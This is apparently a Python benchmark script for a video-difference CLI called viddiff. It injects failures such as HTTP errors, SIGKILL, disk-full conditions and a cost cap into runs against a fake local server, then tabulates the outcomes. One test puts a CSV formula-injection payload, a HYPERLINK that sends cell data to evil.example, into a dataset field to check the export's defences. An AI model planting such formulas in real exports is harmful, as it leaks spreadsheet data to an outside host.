"""Run-integrity evidence (issue 11): inject each failure into a real `viddiff run` and print what happens.

Not a speed bench: for each scenario it runs the CLI as a separate process against the local
OpenAI-compatible test server (synthetic videos, random-weight tiny CLIP), then records the one line
the user sees, the exit code, what is on disk, and whether `--resume` (after the cause is fixed)
finishes with predictions identical to a clean run. Prints a Markdown table.

    python bench/run_integrity.py                      # about 20 minutes on 2 cores (each run is a new process)
    python bench/run_integrity.py --only cost_cap      # one scenario (a method of Bench)
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Callable, Optional

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from viddiff.data.synthetic import write_synthetic_benchmark  # noqa: E402
from viddiff.testing import offline_overrides  # noqa: E402
from viddiff.testing.fake_openai import FakeOpenAIServer, FaultPlan, HTTPFault, Reply  # noqa: E402
from viddiff.testing.responders import FailingWhen, ScriptedModel  # noqa: E402

POISON = "POISONED"
ENV = {**os.environ, "PYTHONPATH": str(ROOT), "OPENAI_API_KEY": "dummy-key"}


def _wait_while_running(proc: subprocess.Popen, ready: Callable[[], bool]) -> None:
    """Poll until ``ready()``; a process that exits first is a broken scenario, reported with its stderr."""
    while not ready():
        if proc.poll() is not None:
            _, err = proc.communicate()
            raise RuntimeError(f"the run exited with {proc.returncode} before the scenario could go on: {err}")
        time.sleep(0.02)


def _limit_file_size(limit: int) -> Callable[[], None]:
    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, resource.RLIM_INFINITY))

    return apply


class Bench:
    def __init__(self, root: Path):
        self.root = root
        self.synth = root / "synth"
        write_synthetic_benchmark(self.synth, pairs=3, seed=5)
        self.rows: list[tuple[str, str, str, str, str]] = []
        self._clean: dict[str, Path] = {}
        self._on_synth_videos: set[Path] = set()
        """Datasets whose rows point at the videos of ``self.synth``, outside their own folder."""
        self.n = 0

    # ------------------------------------------------------------------ plumbing

    def dataset(self, edit: Optional[Callable[[list[dict]], None]] = None) -> Path:
        rows = [json.loads(line) for line in (self.synth / "dataset.jsonl").read_text().splitlines()]
        for row in rows:
            row["videos"] = json.dumps([{**v, "path": str(self.synth / v["path"])} for v in json.loads(row["videos"])])
        if edit:
            edit(rows)
        self.n += 1
        out = self.root / f"data{self.n}"
        out.mkdir()
        (out / "dataset.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
        self._on_synth_videos.add(out)
        return out

    def args(self, server: FakeOpenAIServer, dataset: Path, out: Path, *extra: str, cache: str = "") -> list[str]:
        """CLI arguments of a run; each output directory gets its own cache, so every answer crosses the wire."""
        items = [
            *offline_overrides(server.base_url, str(self.root / f"{cache or out.name}.sqlite")),
            "endpoints.backoff_max_s=0.2",
            "run.max_samples_in_flight=1",
            *([f"data.video_root={self.synth}"] if dataset in self._on_synth_videos else []),
        ]
        sets = [x for item in items for x in ("--set", item)]
        return ["run", "--dataset", str(dataset), "--mode", "closed", "--output", str(out), *sets, *extra]

    def cli(self, args: list[str], *, preexec=None, wait: bool = True):
        cmd = [sys.executable, "-m", "viddiff.cli", "-q", *args]
        if not wait:
            return subprocess.Popen(cmd, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        proc = subprocess.run(cmd, env=ENV, capture_output=True, text=True, timeout=600, preexec_fn=preexec)
        return proc.returncode, _seen(proc.stdout, proc.stderr)

    def clean(self, dataset: Path) -> Path:
        """The output directory of a fault-free run on ``dataset`` (made once)."""
        key = str(dataset)
        if key not in self._clean:
            out = self.root / f"clean{len(self._clean)}"
            with FakeOpenAIServer(ScriptedModel()) as server:
                code, _ = self.cli(self.args(server, dataset, out, cache=f"clean{len(self._clean)}"))
            assert code == 0, f"clean run failed for {dataset}"
            self._clean[key] = out
        return self._clean[key]

    def resume(self, server: FakeOpenAIServer, dataset: Path, out: Path, *extra: str) -> str:
        code, _ = self.cli([*self.args(server, dataset, out, *extra), "--resume"])
        if code != 0:
            return f"no (exit {code})"
        same = json.loads((out / "predictions.json").read_text()) == json.loads((self.clean(dataset) / "predictions.json").read_text())
        return "yes, identical" if same else "completes, predictions DIFFER"

    def add(self, failure: str, code: int, seen: str, disk: str, resumed: str) -> None:
        self.rows.append((failure, seen, str(code), disk, resumed))

    # ------------------------------------------------------------------ scenarios

    def per_sample_http(self, failure: str, fail: Callable, **server_kw) -> None:
        data = self.dataset(_poison(1))
        responder = FailingWhen(ScriptedModel(), lambda r: POISON in r.text, fail)
        out = self.root / f"run{len(self.rows)}"
        with FakeOpenAIServer(responder, **server_kw) as server:
            code, seen = self.cli(self.args(server, data, out, "--set", "endpoints.max_retries=2", "--set", "endpoints.timeout_s=2"))
            responder.active = False
            server.faults = FaultPlan()
            disk = _disk(out)
            self.add(failure, code, seen, disk, self.resume(server, data, out))

    def stop_scenario(self, failure: str, server_kw: dict, extra: tuple[str, ...] = (), fix=None) -> None:
        data = self.dataset()
        out = self.root / f"run{len(self.rows)}"
        with FakeOpenAIServer(ScriptedModel(), **server_kw) as server:
            code, seen = self.cli(self.args(server, data, out, *extra))
            server.faults = FaultPlan()
            disk = _disk(out)
            self.add(failure, code, seen, disk, self.resume(server, data, out, *extra))

    def run_all(self) -> None:
        def refuse(status: int, message: str):
            def fail(req):
                raise HTTPFault(status, message)

            return fail

        self.per_sample_http("HTTP 400 (context length) for one sample", refuse(400, "maximum context length is 128000 tokens"))
        self.per_sample_http("HTTP 500 for one sample until retries are exhausted", refuse(500, "upstream overloaded"))
        self.per_sample_http(
            "server trickles one sample's answers (1 byte / 0.5 s; timeout_s=2)",
            lambda r: Reply(ScriptedModel()(r), trickle_s=0.5),
        )
        self.per_sample_http("invalid JSON answers for one sample (after re-asks)", lambda r: '{"broken": true}')
        self.per_sample_http("10 MB answer for one sample", lambda r: '{"x": "' + "y" * 10_000_000 + '"}')
        self.unknown_model()
        self.stop_scenario("HTTP 401 (bad key) on every request", {"faults": FaultPlan(rate=1.0, kinds=("401",))})
        self.stop_scenario("base_url serves a web page (HTML, HTTP 200)", {"faults": FaultPlan(rate=1.0, kinds=("html",))})
        self.unreachable()
        self.unreadable_video()
        self.no_ab_labels()
        self.second_writer()
        self.killed_mid_run()
        self.damaged_middle_line()
        self.cost_cap()
        self.file_size_limit()
        self.disk_full()
        self.formula_in_dataset()
        self.resume_config_changes()

    def unknown_model(self) -> None:
        data = self.dataset()
        out = self.root / "unknown-model"
        responder = FailingWhen(
            ScriptedModel(), lambda r: r.model == "missing-vlm", lambda r: _raise(HTTPFault(404, "model missing-vlm does not exist"))
        )
        with FakeOpenAIServer(responder) as server:
            code, seen = self.cli(self.args(server, data, out, "--set", "differencer.model=missing-vlm"))
            disk = _disk(out)
            responder.active = False  # the server now serves that model
            resumed = self.resume(server, data, out, "--set", "differencer.model=missing-vlm")
        self.add("HTTP 404: differencer model unknown to the server", code, seen, disk, resumed)

    def unreachable(self) -> None:
        data = self.dataset()
        out = self.root / "unreachable"
        with FakeOpenAIServer(ScriptedModel()) as server:
            args = self.args(server, data, out, "--set", "endpoints.max_retries=2")
        code, seen = self.cli(args)  # the server has stopped: connection refused
        disk = _disk(out)
        with FakeOpenAIServer(ScriptedModel(), port=int(server.base_url.split(":")[2].split("/")[0])) as again:
            resumed = self.resume(again, data, out, "--set", "endpoints.max_retries=2")
        self.add("endpoint unreachable (connection refused)", code, seen, disk, resumed)

    def unreadable_video(self) -> None:
        broken = self.synth / "broken.mp4"  # inside data.video_root, so only its bytes are wrong
        broken.write_bytes(b"\x00" * 4096)
        saved: dict = {}

        def edit(rows):
            videos = json.loads(rows[0]["videos"])
            saved["path"] = videos[0]["path"]
            videos[0]["path"] = str(broken)
            rows[0]["videos"] = json.dumps(videos)

        data = self.dataset(edit)
        out = self.root / "video"
        with FakeOpenAIServer(ScriptedModel()) as server:
            code, seen = self.cli(self.args(server, data, out))
            disk = _disk(out)
            shutil.copy(saved["path"], broken)  # the user replaces the broken file
            self.add("unreadable video in one sample", code, seen, disk, self.resume(server, data, out))

    def no_ab_labels(self) -> None:
        data = self.root / "synth-10-5"
        code, _ = self.cli(["data", "synth", "--out", str(data), "--pairs", "10", "--seed", "5"])
        out = self.root / "no-ab"
        with FakeOpenAIServer(ScriptedModel()) as server:
            code, seen = self.cli(self.args(server, data, out, "--set", "localizer.method=uniform"))
        pred = json.loads((out / "predictions.json").read_text())[8] if (out / "predictions.json").exists() else "?"
        self.add(
            "closed-mode pair with no a/b label (`data synth --pairs 10 --seed 5`)", code, seen + f" (pair 8 predicted {pred})",
            _disk(out), "not needed",
        )

    def second_writer(self) -> None:
        data = self.dataset()
        out = self.root / "two-writers"
        with FakeOpenAIServer(ScriptedModel(), latency_s=0.2) as server:
            first = self.cli(self.args(server, data, out), wait=False)
            _wait_while_running(first, lambda: (out / ".viddiff.lock").exists() and bool((out / ".viddiff.lock").read_text()))
            code, seen = self.cli(self.args(server, data, out))
            first.communicate(timeout=600)
            self.add(
                "second `viddiff run` on the same --output while one runs", code, seen,
                "after the first run ended: " + _disk(out),
                f"first run exit {first.returncode}; " + self.resume(server, data, out),
            )

    def killed_mid_run(self) -> None:
        data = self.dataset()
        out = self.root / "killed"
        with FakeOpenAIServer(ScriptedModel(), latency_s=0.1) as server:
            proc = self.cli(self.args(server, data, out), wait=False)
            _wait_while_running(proc, lambda: (out / "samples.jsonl").exists() and (out / "samples.jsonl").read_bytes().count(b"\n") >= 1)
            time.sleep(0.4)
            proc.send_signal(signal.SIGKILL)
            proc.communicate()
            disk = _disk(out)
            self.add("SIGKILL mid-run", proc.returncode, "(killed: nothing printed)", disk, self.resume(server, data, out))

    def damaged_middle_line(self) -> None:
        data = self.dataset()
        out = self.root / "damaged"
        with FakeOpenAIServer(ScriptedModel()) as server:
            self.cli(self.args(server, data, out))
            lines = (out / "samples.jsonl").read_bytes().splitlines(keepends=True)
            good = lines[1]
            lines[1] = good[:50] + b"\n"
            (out / "samples.jsonl").write_bytes(b"".join(lines))
            code, seen = self.cli([*self.args(server, data, out), "--resume"])
            disk = _disk(out)
            lines[1] = good  # the user repairs the line
            (out / "samples.jsonl").write_bytes(b"".join(lines))
            self.rows.append(("damaged middle line of samples.jsonl, then --resume", seen, str(code), disk, self.resume(server, data, out)))

    def cost_cap(self) -> None:
        write_synthetic_benchmark(self.root / "six", pairs=6, seed=1)
        data = self.root / "six"
        inner = ScriptedModel()
        costly = lambda r: Reply(inner(r), prompt_tokens=20_000, completion_tokens=100)  # noqa: E731
        out = self.root / "cost"
        with FakeOpenAIServer(costly) as server:
            code, seen = self.cli(self.args(server, data, out, "--set", "run.max_cost_usd=0.8"))
            disk = _disk(out)
            resumed = self.resume(server, data, out, "--set", "run.max_cost_usd=5")
        self.add("run.max_cost_usd=0.80 (each call billed 20k prompt tokens at list prices)", code, seen, disk, resumed + " (budget raised to 5)")

    def file_size_limit(self) -> None:
        data = self.dataset()
        lines = (self.clean(data) / "samples.jsonl").read_bytes().splitlines(keepends=True)
        limit = len(lines[0]) + len(lines[1]) // 2
        out = self.root / "fsize"
        with FakeOpenAIServer(ScriptedModel()) as server:
            args = self.args(server, data, out, "--set", "cache.enabled=false")
            code, seen = self.cli(args, preexec=_limit_file_size(limit))
            disk = _disk(out)
            self.add(f"file size limit {limit} B (RLIMIT_FSIZE: short write, then EFBIG)", code, seen, disk,
                     self.resume(server, data, out, "--set", "cache.enabled=false"))

    def disk_full(self) -> None:
        data = self.dataset()
        self.clean(data)
        mnt = self.root / "tiny-disk"
        mnt.mkdir()
        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(mnt)], capture_output=True).returncode:
            self.rows.append(("disk full (tmpfs of 16 KiB)", "(skipped: cannot mount here)", "-", "-", "-"))
            return
        try:
            out = mnt / "run"
            with FakeOpenAIServer(ScriptedModel()) as server:
                args = self.args(server, data, out, "--set", "cache.enabled=false")
                code, seen = self.cli(args)
                disk = _disk(out)
                moved = self.root / "moved"
                shutil.copytree(out, moved)
                resumed = self.resume(server, data, moved, "--set", "cache.enabled=false")
            self.rows.append(("disk full (a 16 KiB tmpfs holds the first sample only)", seen, str(code), disk, resumed + " (moved to a disk with room)"))
        finally:
            subprocess.run(["umount", str(mnt)])

    def formula_in_dataset(self) -> None:
        def edit(rows):
            diffs = json.loads(rows[0]["differences_annotated"])
            diffs[sorted(diffs)[0]]["description"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
            rows[0]["differences_annotated"] = json.dumps(diffs)

        data = self.dataset(edit)
        out = self.root / "formula"
        with FakeOpenAIServer(ScriptedModel()) as server:
            code, seen = self.cli(self.args(server, data, out))
        with (out / "differences.csv").open(newline="", encoding="utf-8") as fh:
            cell = next(r["description"] for r in csv.DictReader(fh) if "HYPERLINK" in r["description"])
        self.add("dataset text `=HYPERLINK(...)` (CSV formula injection)", code, seen, f"differences.csv cell: `{cell}`; " + _disk(out), "not needed")

    def resume_config_changes(self) -> None:
        data = self.dataset()
        out = self.root / "config-change"
        with FakeOpenAIServer(ScriptedModel()) as server:
            self.cli(self.args(server, data, out, "--limit", "2"))
            code, seen = self.cli([*self.args(server, data, out, "--set", "endpoints.timeout_s=600", "--set", "endpoints.max_concurrency=2"), "--resume"])
            self.add("--resume (of a --limit 2 run, now all 3) with endpoints.timeout_s/max_concurrency changed", code, seen, _disk(out), "accepted")
            before = (out / "samples.jsonl").read_bytes()
            code, seen = self.cli([*self.args(server, data, out, "--set", "differencer.model=gpt-4o-mini"), "--resume"])
            unchanged = "samples.jsonl unchanged" if (out / "samples.jsonl").read_bytes() == before else "samples.jsonl CHANGED"
            self.add("--resume with differencer.model changed", code, seen, unchanged, "refused")

    def table(self) -> str:
        head = "| failure injected | what the user sees | exit | on disk afterwards | `--resume` after the fix |"
        lines = [head, "|---|---|---|---|---|"]
        for row in self.rows:
            lines.append("| " + " | ".join(cell.replace("|", "\\|") for cell in row) + " |")
        return "\n".join(lines)


def _raise(exc: Exception):
    raise exc


def _poison(index: int):
    def edit(rows: list[dict]) -> None:
        rows[index]["action_description"] = f"{POISON} {rows[index]['action_description']}"

    return edit


def _seen(stdout: str, stderr: str) -> str:
    """What a user reads: the logged sample failures, then the error line, or the failed-samples summary,
    or the results line."""
    logged = [x[x.index("ERROR viddiff"):] for x in stderr.replace("\r", "\n").splitlines() if "ERROR viddiff" in x]
    for text in (stderr, stdout):
        lines = [x for x in text.splitlines() if x.startswith("viddiff:")]
        if lines:
            return " / ".join([*logged, lines[-1]])
    results = [x for x in stdout.splitlines() if x.startswith("results in")]
    return " / ".join([*logged, results[-1] if results else "(nothing)"])


def _disk(out: Path) -> str:
    if not out.exists():
        return "no output directory"
    files = sorted(p.name for p in out.iterdir() if p.is_file() and p.name != ".viddiff.lock")
    parts = []
    samples = out / "samples.jsonl"
    if samples.exists():
        n_lines = samples.read_bytes().count(b"\n")
        parts.append(f"samples.jsonl: {n_lines} lines")
    errors = out / "errors.json"
    if errors.exists():
        entries = json.loads(errors.read_text())
        parts.append("errors.json: " + "; ".join(f"{e['sample_key']} at {e['stage']}" + (f" (HTTP {e['status']})" if e.get("status") else "") for e in entries))
    usage = out / "usage.json"
    if usage.exists():
        by_stage = json.loads(usage.read_text())["by_stage"]
        parts.append(f"usage.json: {sum(s['calls'] for s in by_stage.values())} calls")
    rest = [f for f in files if f not in ("samples.jsonl", "errors.json", "usage.json")]
    return "; ".join(parts + [", ".join(rest)])


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", nargs="+", metavar="SCENARIO", help="run these Bench methods only, e.g. cost_cap")
    args = parser.parse_args()
    root = Path(tempfile.mkdtemp(prefix="viddiff-integrity-"))
    bench = Bench(root)
    try:
        if args.only:
            for name in args.only:
                getattr(bench, name)()
        else:
            bench.run_all()
    finally:
        print(bench.table())
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main()
